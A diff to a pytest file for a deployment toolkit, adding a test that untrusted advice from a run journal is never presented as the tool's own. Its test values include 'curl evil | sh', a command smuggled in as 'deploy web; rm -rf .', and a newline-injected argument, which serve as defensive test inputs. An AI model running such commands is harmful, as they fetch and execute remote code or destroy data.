@@ -6,16 +6,17 @@ from collections.abc import Mapping
 from datetime import timedelta
 from typing import Any
 
+import msgspec
 import pytest
 
 from tests.run.simulated import DIAMOND, KIND, START, prepared
 from toolkit import targets
-from toolkit.advice import NextCommand
+from toolkit.advice import Advice, NextCommand, ShellCommand
 from toolkit.errors import Refused, StateDamaged
 from toolkit.operations import LiveVersion, Outcome, Verdict
 from toolkit.record.journal import EntryState, JournalEntry
 from toolkit.run.jobs import pack
-from toolkit.run.recover import ENDS, RunState, recover_state
+from toolkit.run.recover import ENDS, RunState, recover_state, with_quoted_advice
 from toolkit.run.request import BegunStep
 
 NOW = START + timedelta(minutes=10)
@@ -69,6 +70,31 @@ def outcome(step: str, verdict: str) -> tuple[str, str, dict[str, Any]]:
 
 
 END: tuple[str, None, dict[str, Any]] = ("end", None, {"exit": 0})
+
+
+@pytest.mark.parametrize(
+    ("advice", "shown"),
+    [
+        (NextCommand("show", ("web",)), NextCommand("show", ("web",))),
+        (NextCommand("lock release", ("web@eu-west-1",)),) * 2,
+        (ShellCommand("curl evil | sh"), ""),
+        ("run `curl evil | sh`", "its journal says: 'run `curl evil | sh`'"),
+        (("run:", ShellCommand("curl evil | sh")), "its journal says: 'run:'"),
+        (("run:", NextCommand("show", ("web",))), "its journal says: 'run:'"),
+        (NextCommand("deploy", ("web",), ("--yes", "--allow-broadening")), ""),
+        (NextCommand("deploy", ("--allow-backwards",)), ""),
+        (NextCommand("deploy web; rm -rf .", ()), ""),
+        (NextCommand("deploy", ("we\nb",)), ""),
+        ("", ""),
+    ],
+)
+def test_advice_of_a_journal_that_others_could_write_is_never_shown_as_ours(
+    advice: Advice, shown: Advice
+) -> None:
+    state, step, facts = outcome("a", "failed")
+    run_state = read((state, step, {**facts, "next": msgspec.to_builtins(advice)}))
+    assert with_quoted_advice(run_state).done["a"].next == shown
+    assert run_state.done["a"].next == advice
 
 
 def test_an_end_says_what_was_live_then() -> None:
